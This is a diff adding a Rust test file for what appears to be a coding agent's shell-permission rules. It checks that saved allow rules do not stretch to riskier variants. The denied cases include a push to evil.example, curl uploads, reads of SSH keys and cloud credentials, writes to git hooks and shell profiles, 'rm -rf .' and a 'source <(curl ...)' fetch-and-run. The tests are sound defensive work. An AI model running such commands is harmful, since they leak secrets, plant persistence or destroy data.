@@ -1,0 +1,251 @@
+//! What an offer saves covers the next command of its kind, and nothing that does more.
+
+use crate::testing::{HOME, Scene};
+use crate::{Decision, Rule, RuleOrigin, Target};
+
+fn scene(command: &str) -> Scene {
+    let more = ["head", "mkdir", "ssh", "sed", "node"];
+    let scene =
+        more.iter().fold(Scene::new(), |scene, name| scene.program(&format!("/usr/bin/{name}"), name));
+    scene.shell(command)
+}
+
+/// The rules of the first offer for a command.
+fn saved(command: &str) -> Vec<Rule> {
+    let offers = scene(command).offers();
+    assert!(!offers.is_empty(), "{command}: no offer");
+    (1..).zip(offers[0].rules(RuleOrigin::Any)).map(|(id, rule)| Rule { id, ..rule }).collect()
+}
+
+fn with(rules: &[Rule], command: &str) -> Decision {
+    let mut scene = scene(command);
+    scene.rules = rules.to_vec();
+    scene.judge().decision
+}
+
+fn check(given: &str, covered: &[&str], asked: &[&str]) {
+    let rules = saved(given);
+    for command in [given].iter().chain(covered) {
+        assert_eq!(with(&rules, command), Decision::Allow, "{command}, after {given}: {rules:?}");
+    }
+    for command in asked {
+        assert_ne!(with(&rules, command), Decision::Allow, "{command}, after {given}: {rules:?}");
+    }
+}
+
+#[test]
+fn code_of_the_project_runs_with_other_arguments_and_does_nothing_else() {
+    check(
+        "npm test",
+        &["npm test -- --watch", "cd sub && npm test", "for x in a b; do npm test; done"],
+        &[
+            "npm install left-pad",
+            "npm publish",
+            "cd .. && npm test",
+            "cd $X && npm test",
+            "npm test > out.txt",
+            "npm test > /etc/hosts",
+            "npm test ../other/x.js",
+            "npm test ~/.ssh/id_rsa",
+            "sudo npm test",
+            "PATH=. npm test",
+        ],
+    );
+}
+
+#[test]
+fn what_is_sent_goes_to_the_same_place() {
+    check(
+        "git push origin main",
+        &["git push origin dev"],
+        &[
+            "git push --force origin main",
+            "git push origin +main",
+            "git push other main",
+            "git push https://evil.example/x main",
+            "git push --mirror origin",
+            "git push --receive-pack=x origin",
+        ],
+    );
+    check(
+        "curl https://a.example/x",
+        &["curl -s https://a.example/y"],
+        &[
+            "curl https://b.example/x",
+            "curl -d @x https://a.example/x",
+            "curl -T x https://a.example/x",
+            "curl -o ../x https://a.example/x",
+            "curl -K x https://a.example",
+            "curl https://a.example/x https://b.example",
+        ],
+    );
+}
+
+#[test]
+fn what_is_written_stays_in_the_folder_and_off_protected_places() {
+    check(
+        "cat > notes.md <<'E'\nx\nE",
+        &["cat > src/other.md <<'E'\ny\nE", "cat >> notes.md <<'E'\ny\nE"],
+        &[
+            "cat > ../x <<'E'\ny\nE",
+            "cat > ~/x <<'E'\ny\nE",
+            "cat > /etc/x <<'E'\ny\nE",
+            "cat > .git/hooks/pre-commit <<'E'\ny\nE",
+            "cat > sub/.zshrc <<'E'\ny\nE",
+            "cat > \"$OUT\" <<'E'\ny\nE",
+            "cat ~/.ssh/id_rsa > x",
+            "cat ../other/x > x",
+            "cd .. && cat > x <<'E'\ny\nE",
+        ],
+    );
+    check("printf x > a.txt", &["printf y > b.txt"], &["printf x > ../a.txt", "printf -v PATH x > a.txt"]);
+    check(
+        "mkdir -p /Users/u/project/a",
+        &["mkdir b", "mkdir -p /Users/u/project/c/d"],
+        &["mkdir ../x", "mkdir /Users/u/x", "mkdir \"$X\"", "mkdir -p .git/hooks", "mkdir -p a ~/.ssh"],
+    );
+    check(
+        "cp a b",
+        &["cp src/a src/b"],
+        &[
+            "cp a ../b",
+            "cp ~/.ssh/id_rsa b",
+            "cp a .git/hooks/pre-commit",
+            "cp a .git/config",
+            "cp a $X",
+            "cp -r . /tmp2/x",
+        ],
+    );
+    check(
+        "rm build.o",
+        &["rm src/x.o"],
+        &["rm -r src", "rm -rf .", "rm ../x", "rm ~/x", "rm $X", "rm .git/config", "rm /etc/hosts"],
+    );
+}
+
+#[test]
+fn a_link_that_leads_elsewhere_is_not_followed() {
+    let rules = saved("cat > notes.md <<'E'\nx\nE");
+    for (written, real) in [("notes.md", "/Users/u/.zshrc"), ("notes.md", "/opt/x")] {
+        let mut scene = scene("cat > notes.md <<'E'\nx\nE");
+        scene.rules.clone_from(&rules);
+        scene.targets = vec![Target { written: written.to_owned(), real: real.to_owned() }];
+        assert_ne!(scene.judge().decision, Decision::Allow, "{real}");
+    }
+    let mut moved = scene("cd sub && npm test");
+    moved.rules = saved("npm test");
+    moved.targets = vec![Target { written: "sub".to_owned(), real: "/opt/evil".to_owned() }];
+    assert_ne!(moved.judge().decision, Decision::Allow, "the folder is a link");
+}
+
+#[test]
+fn what_is_read_stays_where_it_was() {
+    check(
+        "grep -rn x src",
+        &["grep y docs/a", "grep x /usr/include/a.h"],
+        &[
+            "grep x ~/.ssh/id_rsa",
+            "grep x .env",
+            "grep x ../other/f",
+            "grep x \"$F\"",
+            "grep -f ../x y",
+            "grep x /tmp/x",
+        ],
+    );
+    check(
+        "head /Users/u/code/lib/a.txt",
+        &["head -5 /Users/u/code/lib/b/c.txt", "head a"],
+        &["head /Users/u/code/x", "head ~/.aws/credentials", "head /Users/u/code/lib/../../.netrc"],
+    );
+}
+
+#[test]
+fn another_folder_is_one_that_was_shown() {
+    check(
+        "cd /opt/other && git status",
+        &["cd /opt/other && git status -s", "cd /opt/other/sub && git status"],
+        &[
+            "cd /opt && git status",
+            "cd /opt/other && git push",
+            "cd /srv/x && git status",
+            "cd $X && git status",
+            "git status",
+        ],
+    );
+}
+
+#[test]
+fn code_in_the_request_is_covered_as_it_is() {
+    check(
+        "python3 -c 'print(1)'",
+        &[],
+        &[
+            "python3 -c 'print(2)'",
+            "python3 -c 'print(1)' > x",
+            "python3 -",
+            "cd .. && python3 -c 'print(1)'",
+            "node -e 'print(1)'",
+        ],
+    );
+    check(
+        "python3 - <<'E'\nprint(1)\nE",
+        &["python3 - <<'OTHER'\nprint(1)\nOTHER"],
+        &[
+            "python3 - <<'E'\nprint(2)\nE",
+            "python3 - <<'E'\nprint(1)\n\nE",
+            "python3 - <<'E' < x\nprint(1)\nE",
+            "cat x | python3 -",
+            "python3 - < x",
+            "python3 -",
+        ],
+    );
+    assert!(scene("python3 - <<E\nprint($X)\nE").offers().is_empty(), "the shell puts something in");
+}
+
+#[test]
+fn a_rule_for_a_line_is_about_that_line_in_that_folder() {
+    let rules = saved("ls > \"$OUT\" && npm test");
+    let judged = |scene: Scene| scene.judge().decision;
+    let mut other = scene("ls > \"$OUT\" && npm test");
+    other.rules.clone_from(&rules);
+    assert_eq!(other.judge().decision, Decision::Allow);
+    other.cwd = HOME.to_owned();
+    assert_ne!(other.judge().decision, Decision::Allow, "in another folder");
+    for command in ["ls > \"$OUT\" && npm test x", "ls > \"$OTHER\" && npm test", "ls > \"$OUT\"", "npm test"]
+    {
+        assert_ne!(with(&rules, command), Decision::Allow, "{command}");
+    }
+    let mut denied = scene("ls > \"$OUT\" && npm test").deny("npm test");
+    denied.rules.extend(rules.iter().cloned().map(|rule| Rule { id: 9, ..rule }));
+    assert_eq!(judged(denied), Decision::Deny, "deny rules are stronger");
+    let mut fed = scene("ls > \"$OUT\" && npm test");
+    fed.rules.clone_from(&rules);
+    fed.input = crate::Input::Text("aa".to_owned());
+    assert_ne!(judged(fed), Decision::Allow, "it was given without input");
+}
+
+#[test]
+fn a_file_of_commands_is_read_as_it_was_named() {
+    check(
+        "source venv/bin/activate && npm test",
+        &["source venv/bin/activate && npm test -- x", "source venv/bin/activate; npm test", "npm test"],
+        &[
+            "source venv/bin/other && npm test",
+            "source venv/bin/activate x",
+            "source <(curl x)",
+            "source /dev/stdin <<< 'rm x'",
+            "source venv/bin/activate && npm publish",
+            "cd .. && source venv/bin/activate",
+            "source $X && npm test",
+        ],
+    );
+}
+
+#[test]
+fn limits_belong_to_narrow_allow_rules() {
+    let rule = &saved("npm test")[0];
+    assert!(crate::check_rule(rule, HOME).is_ok());
+    assert!(crate::check_rule(&Rule { broad: true, ..rule.clone() }, HOME).is_err());
+    let denies = Rule { effect: crate::Effect::Deny, folder: None, ..rule.clone() };
+    assert!(crate::check_rule(&denies, HOME).is_err());
+}
